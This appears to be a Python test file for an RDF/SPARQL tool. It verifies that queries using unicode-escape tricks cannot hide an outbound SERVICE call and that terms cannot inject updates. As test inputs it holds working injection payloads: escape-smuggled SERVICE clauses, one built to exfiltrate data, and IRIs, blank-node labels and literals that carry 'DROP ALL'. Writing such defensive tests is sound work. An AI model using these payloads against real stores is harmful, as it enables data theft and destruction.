"""Injections: a query that means one thing to the check and another to the engine, and
terms that would break out of the update text ccare writes (issue 11, the two critical).

What is checked must be exactly what runs: the proof is a loopback server that records
every request, and a query text that the two parsers (rdflib's, which checks, and
Oxigraph's, which runs) read alike.
"""

from __future__ import annotations

import pyoxigraph as ox
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from rdflib import BNode, Graph, Literal, URIRef

from ccare.endpoint.upload import insert_data
from ccare.errors import QueryError
from ccare.query.sparql import QuerySyntaxError, checked, expand_escapes
from ccare.rdfio.terms import TermError, term
from loopback import loopback_server

# The reproduction: rdflib expands \u0022 across the whole text and sees two
# strings; Oxigraph expanded it only inside strings and saw a SERVICE between them.
HIDDEN = [
    'SELECT * WHERE { VALUES ?v { "A\\u0022 1 " } SERVICE <{url}/x> { ?a ?b ?c } VALUES ?w { " 2 \\u0022D" } }',
    # the exfiltrating variant: every subject sent out while the answer says nothing
    'SELECT * WHERE { ?m ?p ?o VALUES ?v { "A\\u0022 1 " } FILTER NOT EXISTS { SERVICE SILENT <{url}/x> '
    '{ ?m ?q ?r } } VALUES ?w { " 2 \\u0022D" } } LIMIT 3',
    # the same through single quotes and through an IRI
    "SELECT * WHERE { VALUES ?v { 'A\\u0027 1 ' } SERVICE <{url}/x> { ?a ?b ?c } VALUES ?w { ' 2 \\u0027D' } }",
    'SELECT * WHERE { ?s ?p <urn:a\\u003E } SERVICE <{url}/x> { ?a ?b ?c } { ?s ?p <urn:b> }',
]

# Spelt with escapes, still a SERVICE: refused on every store.
SPELT = [
    "SELECT * WHERE { \\u0053ERVICE <{url}/x> { ?s ?p ?o } }",
    "SELECT * WHERE { SERVICE \\u003C{url}/x\\u003E { ?s ?p ?o } }",
    "SELECT * WHERE { \\U00000053ERVICE SILENT <{url}/x> { ?s ?p ?o } }",
]


@pytest.mark.parametrize("store", ["oxigraph", "memory"])
@pytest.mark.parametrize("template", HIDDEN)
def test_a_service_hidden_by_escapes_sends_nothing(ccare, template, store):
    with loopback_server() as server:
        r = ccare("--store", store, "sparql", template.replace("{url}", server.url), "--timeout", "20")
        assert server.requests == []
        assert "Traceback" not in r.output
        # what runs is what was checked: with the escapes expanded the text is one of
        # strings (a result), or refused, never a request
        assert r.exit_code in (0, 1), r.output
        if r.exit_code == 1:
            assert r.stderr.startswith("Error: ")


@pytest.mark.parametrize("store", ["oxigraph", "memory"])
@pytest.mark.parametrize("template", SPELT)
def test_a_service_spelt_with_escapes_is_refused(ccare, template, store):
    with loopback_server() as server:
        r = ccare("--store", store, "sparql", template.replace("{url}", server.url), "--timeout", "20")
        assert r.exit_code == 1, r.output
        assert r.stderr.startswith(f"Error: refused: SERVICE <{server.url}/x> would send the query")
        assert server.requests == []


def test_the_checked_text_is_the_text_that_runs():
    sent, query = checked('SELECT ?v WHERE { VALUES ?v { "\\u4E2D" } }', {})
    assert sent == 'SELECT ?v WHERE { VALUES ?v { "中" } }'
    assert query.algebra.name == "SelectQuery"
    # the quotes, expanded once, end the strings for the check as for the engine
    with pytest.raises(QuerySyntaxError) as e:
        checked('SELECT ?v WHERE { VALUES ?v { "A\\u0022 1 " } }', {})
    assert 'VALUES ?v { "A" 1 " } }' in str(e.value)


def test_escapes_are_read_as_the_recommendation_says(ccare):
    # \u takes four hex digits (rdflib alone would read \u00410042 as one 8-digit escape)
    r = ccare("sparql", 'SELECT ?v WHERE { BIND("\\u00410042\\U0001F600" AS ?v) }', "--format", "csv")
    assert (r.exit_code, r.stdout.splitlines()) == (0, ["v", "A0042\U0001F600"])
    r = ccare("--store", "memory", "sparql", 'SELECT ?v WHERE { BIND("\\u00410042" AS ?v) }', "--format", "csv")
    assert (r.exit_code, r.stdout.splitlines()) == (0, ["v", "A0042"])


@pytest.mark.parametrize("query, message", [
    ('SELECT ?v WHERE { BIND("\\uD800" AS ?v) }',
     "Error: \\uD800 at line 1, column 25 is not a Unicode character (codepoints go up to \\U0010FFFF, "
     "surrogates excluded)"),
    ('SELECT ?v WHERE {\n BIND("\\U00110000" AS ?v) }',
     "Error: \\U00110000 at line 2, column 8 is not a Unicode character (codepoints go up to \\U0010FFFF, "
     "surrogates excluded)"),
    ('SELECT ?v WHERE { BIND("\\u005Cu0022" AS ?v) }',
     "Error: \\u at line 1, column 25 (after expanding the codepoint escapes) starts no codepoint escape, "
     "or one escape writes another: write the character itself"),
    ('SELECT ?v WHERE { BIND("C:\\Users" AS ?v) }',
     "Error: \\U at line 1, column 27 (after expanding the codepoint escapes) starts no codepoint escape, "
     "or one escape writes another: write the character itself"),
])
def test_escapes_that_are_no_character_are_clean_errors(ccare, query, message):
    r = ccare("sparql", query)
    assert (r.exit_code, r.stderr) == (1, message + "\n")


@given(st.text(max_size=40))
@settings(max_examples=300, deadline=None)
def test_expanding_is_the_identity_on_text_without_escapes(text):
    text = text.replace("\\", "/")
    assert expand_escapes(text) == text


# ---------------------------------------------------------------------- terms in update text

INJECTED = "http://ex/a> . } ; DROP ALL ; INSERT DATA { <http://ex/pwned> <http://ex/p> <http://ex/o"


@pytest.mark.parametrize("node", [
    URIRef(INJECTED),
    Literal("1", datatype=URIRef(INJECTED)),
    Literal("x", lang="abcdefghijklm"),  # rdflib checks tags itself, less strictly than BCP 47
    URIRef("relative/iri"),
    URIRef("http://ex/a b"),
    URIRef("http://ex/a\\u003E"),
])
def test_a_term_that_is_not_rdf_is_never_written(node):
    with pytest.raises(TermError):
        term(node)
    with pytest.raises(TermError):
        insert_data([(URIRef("http://ex/s"), URIRef("http://ex/p"), node)])


def test_a_blank_node_label_is_checked():
    with pytest.raises(TermError):
        term(BNode("b0 } ; DROP ALL ; INSERT DATA {"), "b0 } ; DROP ALL")
    assert term(BNode(), "b7") == "_:b7"


def _value_read_by_rdflib(update: str) -> str:
    g = Graph()
    g.update(update)
    (obj,) = list(g.objects())
    return str(obj)


def _value_read_by_oxigraph(update: str) -> str:
    store = ox.Store()
    store.update(update)
    (quad,) = list(store)
    return quad.object.value


@given(st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=30)
       | st.from_regex(r'[\\"u0-9a-fA-FU ]{0,20}', fullmatch=True))
@settings(max_examples=400, deadline=None)
def test_every_literal_reads_back_the_same_in_both_parsers(value):
    """A literal is one value to every engine: backslashes, quotes, \\u sequences,
    control characters; rdflib expands codepoint escapes across the whole text, Oxigraph
    inside strings, and both must find the value ccare meant."""
    update = insert_data([(URIRef("http://ex/s"), URIRef("http://ex/p"), Literal(value))])
    assert _value_read_by_oxigraph(update) == value
    assert _value_read_by_rdflib(update) == value


def test_a_literal_that_reads_as_an_update_stays_a_literal():
    # pasted, the escapes would close the string for an engine that expands them first
    value = 'a\\u0022 . } ; DROP ALL ; INSERT DATA { <http://ex/pwned> <http://ex/p> \\u0022b'
    update = insert_data([(URIRef("http://ex/s"), URIRef("http://ex/p"), Literal(value))])
    assert _value_read_by_rdflib(update) == value == _value_read_by_oxigraph(update)


def test_the_check_raises_the_library_error():
    with pytest.raises(QueryError):
        expand_escapes("\\uDFFF")
